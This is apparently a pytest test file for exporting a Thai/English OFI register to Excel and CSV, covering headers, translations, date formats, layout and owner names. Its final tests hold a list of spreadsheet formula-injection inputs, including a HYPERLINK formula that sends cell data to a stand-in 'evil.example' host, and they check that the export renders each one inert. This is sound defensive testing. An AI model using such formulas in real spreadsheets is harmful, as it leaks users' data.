"""Exporting the OFI register: an Excel workbook and a CSV file, with Thai (or English) headers and
labels, real dates, Thai-capable fonts, and a byte-order mark Excel needs to read Thai CSV."""

import csv
import io
from datetime import date, datetime

import pandas as pd
import pytest
from openpyxl import load_workbook
from sheet_checks import check_print_setup

from i18n import translate
from reports.ofi_export import COLUMNS, register_csv, register_xlsx
from storage.organisation import accounts, org
from storage.plans import ofis
from storage.plans.ofis import DESCRIPTIONS, REGISTER_COLUMNS

BOM = b"\xef\xbb\xbf"
THAI_HEADERS = ["รหัส", "ที่มา", "ประเด็น", "หมวด", "หน่วยงาน", "โอกาสในการปรับปรุง", "ความสำคัญ", "ผู้รับผิดชอบ",
                "กำหนดเสร็จ", "สถานะ", "คะแนนที่จะได้", "เกินกำหนด", "ยกมาจาก OFI รหัส", "ปรับปรุงล่าสุด (เวลาประเทศไทย)"]
ENGLISH_HEADERS = ["ID", "Source", "Item", "Category", "Units", "Opportunity for improvement", "Priority",
                   "Owner", "Due date", "Status", "Points to gain", "Overdue", "Carried from OFI",
                   "Last updated (Thailand time)"]


@pytest.fixture
def frame():
    """Three rows shaped as ``storage.plans.ofis.register`` returns them; the first made from a gap."""
    typed = lambda text: (None, None, text, text)  # noqa: E731  (no gap; read as typed in both languages)
    rows = [
        (3, "gap", "1.1", 1, "U1", [1], "ยังไม่ผ่าน 1.1.B2: สื่อสารวิสัยทัศน์", "high", "board", date(2026, 3, 5),
         "in_progress", 5.357142857, True, None, "2026-03-01T17:30:00.000+00:00", 2,
         "checkpoint", "1.1.B2", "ยังไม่ผ่าน 1.1.B2: สื่อสารวิสัยทัศน์", "1.1.B2 not met yet: share the vision"),
        (1, "committee", "2.3", 2, "U1, U2", [1, 2], "ถ่ายทอดแผนสู่หน่วยงาน, \"เครือข่าย\"", "medium", "unit1",
         date(2026, 5, 1), "open", None, False, 7, "2026-02-10T01:00:00.000+00:00", 0,
         *typed("ถ่ายทอดแผนสู่หน่วยงาน, \"เครือข่าย\"")),
        (2, "unit", "7.2", 7, "U3", [3], "ยกระดับความพึงพอใจ", "low", "unit1", date(2026, 1, 31), "done", 0.25,
         False, None, "2026-02-11T12:00:00.000+00:00", 1, *typed("ยกระดับความพึงพอใจ")),
    ]
    data = pd.DataFrame(rows, columns=REGISTER_COLUMNS)
    data["carried_from"] = data["carried_from"].astype("Int64")
    return data


def read_xlsx(data: bytes):
    book = load_workbook(io.BytesIO(data))
    assert len(book.worksheets) == 1
    return book.active


def read_csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(("lang", "headers", "title"), [("th", THAI_HEADERS, "ทะเบียน OFI"),
                                                         ("en", ENGLISH_HEADERS, "OFI register")])
def test_headers_and_title_are_in_the_chosen_language(frame, lang, headers, title):
    sheet = read_xlsx(register_xlsx(frame, lang))
    assert sheet.title == title
    assert [c.value for c in sheet[1]] == headers
    assert read_csv_rows(register_csv(frame, lang))[0] == headers
    assert headers == [translate(f"ofi_col_{c}", lang) for c in COLUMNS]


def test_xlsx_values_are_translated_and_typed(frame):
    sheet = read_xlsx(register_xlsx(frame))
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert len(rows) == 3
    first, second, third = rows
    assert first[:5] == [3, "ช่องว่างจากผลการประเมิน", "1.1", 1, "U1"]
    assert first[6:8] == ["สูง", "board"] and first[9] == "กำลังดำเนินการ"
    assert first[10] == pytest.approx(5.357142857) and first[11] == "เกินกำหนด" and first[12] is None
    assert second[1] == "คณะกรรมการ" and second[5] == "ถ่ายทอดแผนสู่หน่วยงาน, \"เครือข่าย\""
    assert (second[6], second[9], second[10], second[11], second[12]) == ("ปานกลาง", "ยังไม่เริ่ม", None, None, 7)
    assert (third[1], third[6], third[9]) == ("หน่วยงานเสนอเอง", "ต่ำ", "ดำเนินการแล้ว")
    # dates are real Excel dates, shown in the Buddhist Era in a Thai file (issue 25: they were ISO); the UTC time
    # of the last update is shown in Thailand time (UTC+7)
    due = sheet.cell(row=2, column=COLUMNS.index("due_date") + 1)
    assert due.is_date and due.value == datetime(2026, 3, 5) and due.number_format == "[$-7041E]d mmm yyyy"
    updated = sheet.cell(row=2, column=COLUMNS.index("updated_at") + 1)
    assert updated.is_date and updated.value == datetime(2026, 3, 2, 0, 30)
    assert updated.number_format == "[$-7041E]d mmm yyyy hh:mm"
    assert sheet.cell(row=4, column=COLUMNS.index("due_date") + 1).value == datetime(2026, 1, 31)


def test_xlsx_layout_bold_frozen_header_thai_font_and_widths(frame):
    sheet = read_xlsx(register_xlsx(frame))
    assert sheet.freeze_panes == "A2"
    assert all(c.font.b for c in sheet[1])
    assert not any(c.font.b for row in sheet.iter_rows(min_row=2) for c in row)
    assert {c.font.name for row in sheet.iter_rows() for c in row} == {"Tahoma"}
    widths = {col: sheet.column_dimensions[chr(ord("A") + i)].width for i, col in enumerate(COLUMNS)}
    assert widths["description"] >= 40 and widths["id"] <= 10 and all(w >= 8 for w in widths.values())
    assert sheet.auto_filter.ref == f"A1:N{len(frame) + 1}"


@pytest.mark.parametrize("lang", ["th", "en"])
def test_xlsx_is_set_up_to_print_and_long_descriptions_get_tall_rows(frame, lang):
    for column in ("description", *DESCRIPTIONS):  # a typed description, as each language reads it
        frame.loc[1, column] = "ทบทวนกระบวนการวางแผนร่วมกับเครือข่ายทุกภาคส่วน " * 6
    sheet = read_xlsx(register_xlsx(frame, lang))
    check_print_setup(sheet, "landscape", lang)
    heights = [sheet.row_dimensions[row].height for row in (2, 3, 4)]
    assert heights[0] is None and heights[2] is None and heights[1] >= 45  # a short row keeps Excel's height


def test_csv_has_a_bom_the_same_columns_and_plain_values(frame):
    data = register_csv(frame)
    assert data.startswith(BOM) and not data.startswith(BOM * 2)
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(back.columns) == THAI_HEADERS
    assert list(back["รหัส"]) == ["3", "1", "2"]
    assert list(back["ความสำคัญ"]) == ["สูง", "ปานกลาง", "ต่ำ"]
    assert list(back["สถานะ"]) == ["กำลังดำเนินการ", "ยังไม่เริ่ม", "ดำเนินการแล้ว"]
    assert list(back["กำหนดเสร็จ"]) == ["5 มี.ค. 2569", "1 พ.ค. 2569", "31 ม.ค. 2569"]  # issue 25: ISO dates
    assert list(back["คะแนนที่จะได้"]) == ["5.3571", "", "0.25"]
    assert list(back["เกินกำหนด"]) == ["เกินกำหนด", "", ""]
    assert list(back["ยกมาจาก OFI รหัส"]) == ["", "7", ""]
    assert list(back["ปรับปรุงล่าสุด (เวลาประเทศไทย)"]) == ["2 มี.ค. 2569 00:30", "10 ก.พ. 2569 08:00",
                                                           "11 ก.พ. 2569 19:00"]
    assert back.loc[1, "โอกาสในการปรับปรุง"] == "ถ่ายทอดแผนสู่หน่วยงาน, \"เครือข่าย\""
    assert "unit_ids" not in data.decode("utf-8-sig")


def test_english_labels_for_values(frame):
    rows = read_csv_rows(register_csv(frame, "en"))
    assert [r[ENGLISH_HEADERS.index("Status")] for r in rows[1:]] == ["In progress", "Open", "Done"]
    # issue 25: a gap OFI's generated description stayed Thai in the English export
    assert [r[ENGLISH_HEADERS.index("Opportunity for improvement")] for r in rows[1:]] == [
        "1.1.B2 not met yet: share the vision", "ถ่ายทอดแผนสู่หน่วยงาน, \"เครือข่าย\"", "ยกระดับความพึงพอใจ"]
    sheet = read_xlsx(register_xlsx(frame, "en"))
    assert sheet.cell(row=2, column=COLUMNS.index("description") + 1).value == "1.1.B2 not met yet: share the vision"
    assert [r[ENGLISH_HEADERS.index("Source")] for r in rows[1:]] == ["Assessment gap", "Committee", "Unit"]
    assert rows[1][ENGLISH_HEADERS.index("Overdue")] == "Overdue"
    # issue 25: English files in the Common Era
    assert [r[ENGLISH_HEADERS.index("Due date")] for r in rows[1:]] == ["5 Mar 2026", "1 May 2026", "31 Jan 2026"]
    assert rows[1][ENGLISH_HEADERS.index("Last updated (Thailand time)")] == "2 Mar 2026 00:30"
    due = sheet.cell(row=2, column=COLUMNS.index("due_date") + 1)
    assert due.value == datetime(2026, 3, 5) and due.number_format == "[$-409]d mmm yyyy"


@pytest.mark.parametrize("lang", ["th", "en"])
def test_owners_are_named_as_people_know_them(frame, lang):
    # issue 25: the export named owners by their user names
    names = {"board": "สมศรี ใจดี", "unit1": "Somchai Rakdee"}
    sheet = read_xlsx(register_xlsx(frame, lang, names))
    owner = COLUMNS.index("owner")
    assert [sheet.cell(row=r, column=owner + 1).value for r in (2, 3, 4)] == ["สมศรี ใจดี", "Somchai Rakdee",
                                                                               "Somchai Rakdee"]
    assert [r[owner] for r in read_csv_rows(register_csv(frame, lang, names))[1:]] == [
        "สมศรี ใจดี", "Somchai Rakdee", "Somchai Rakdee"]
    assert read_csv_rows(register_csv(frame, lang))[1][owner] == "board"  # no names: as stored


@pytest.mark.parametrize("export", [register_xlsx, register_csv])
def test_an_empty_register_gives_the_header_only(export):
    data = export(pd.DataFrame(columns=REGISTER_COLUMNS))
    if export is register_xlsx:
        sheet = read_xlsx(data)
        assert [c.value for c in sheet[1]] == THAI_HEADERS and sheet.max_row == 1
    else:
        assert read_csv_rows(data) == [THAI_HEADERS]


def test_a_frame_with_some_columns_and_text_dates_exports_those(frame):
    part = frame[["id", "description", "due_date"]].assign(due_date=["2026-03-05", "2026-05-01", None])
    sheet = read_xlsx(register_xlsx(part))
    assert [c.value for c in sheet[1]] == ["รหัส", "โอกาสในการปรับปรุง", "กำหนดเสร็จ"]
    assert [sheet.cell(row=r, column=3).value for r in (2, 3, 4)] == [datetime(2026, 3, 5), datetime(2026, 5, 1), None]
    assert read_csv_rows(register_csv(part))[1:] == [["3", "ยังไม่ผ่าน 1.1.B2: สื่อสารวิสัยทัศน์", "5 มี.ค. 2569"],
                                                    ["1", "ถ่ายทอดแผนสู่หน่วยงาน, \"เครือข่าย\"", "1 พ.ค. 2569"],
                                                    ["2", "ยกระดับความพึงพอใจ", ""]]


def test_the_register_of_a_real_store_exports(db):
    org.add_cycle(db, 2570)
    unit = org.add_unit(db, "PLAN", "กองแผนงาน", "Planning Division")
    board = accounts.create_user(db, "board", "correct horse", "committee")
    ofi_id = ofis.create(db, board, 2570, "2.1", "ทบทวนกระบวนการวางแผน", "high", "board", date(2026, 9, 30),
                         [unit], today=date(2026, 1, 1))
    register = ofis.register(db, board, 2570, today=date(2026, 1, 1))
    sheet = read_xlsx(register_xlsx(register))
    row = {h: c.value for h, c in zip(THAI_HEADERS, sheet[2], strict=True)}
    assert (row["รหัส"], row["หน่วยงาน"], row["ความสำคัญ"], row["สถานะ"]) == (ofi_id, "PLAN", "สูง", "ยังไม่เริ่ม")
    assert row["กำหนดเสร็จ"] == datetime(2026, 9, 30) and isinstance(row["ปรับปรุงล่าสุด (เวลาประเทศไทย)"], datetime)
    back = pd.read_csv(io.BytesIO(register_csv(register)), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert back.loc[0, "โอกาสในการปรับปรุง"] == "ทบทวนกระบวนการวางแผน" and back.loc[0, "กำหนดเสร็จ"] == "30 ก.ย. 2569"
    ofis.from_gap(db, board, 2570, {"kind": "kpi", "ref": "RM3", "item": "7.2", "unit": unit, "points": 2.0},
                  "board", date(2026, 9, 30), "high", today=date(2026, 1, 1))
    english = pd.read_csv(io.BytesIO(register_csv(ofis.register(db, board, 2570, today=date(2026, 1, 1)), "en")),
                          encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert english["Opportunity for improvement"].str.startswith("Raise RM3 ").sum() == 1


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_is_exported_inert(frame, text):
    frame.loc[0, ["description", *ofis.DESCRIPTIONS]] = text
    frame.loc[0, "owner"] = text
    sheet = read_xlsx(register_xlsx(frame))
    header = [c.value for c in sheet[1]]
    cells = {header[i]: sheet.cell(row=2, column=i + 1) for i in range(len(header))}
    for column in ("ofi_col_description", "ofi_col_owner"):
        cell = cells[translate(column, "th")]
        # openpyxl writing with lxml (python-docx brings it) keeps a \r; its own writer turns it into \n
        assert cell.data_type == "s" and cell.value in ("'" + text, ("'" + text).replace("\r", "\n"))
    rows = read_csv_rows(register_csv(frame))
    assert rows[1][header.index(translate("ofi_col_description", "th"))] == "'" + text
    # ordinary text, numbers and dates are untouched
    assert cells[translate("ofi_col_points", "th")].value == pytest.approx(5.357142857)
    description = header.index(translate("ofi_col_description", "th")) + 1
    assert sheet.cell(row=3, column=description).value == "ถ่ายทอดแผนสู่หน่วยงาน, \"เครือข่าย\""


def test_chart_and_audit_csv_downloads_are_inert_too():
    from ui.overview_data import csv_of

    data = pd.DataFrame({"=name": ["=1+1", "ปกติ", "-ลบ"], "points": [-5.0, 1.0, 2.0]})
    rows = read_csv_rows(csv_of(data, index=False)())
    points = translate("ofi_col_points", "th")  # a known column's heading, in the language of the page
    assert rows == [["'=name", points], ["'=1+1", "-5.0"], ["ปกติ", "1.0"], ["'-ลบ", "2.0"]]
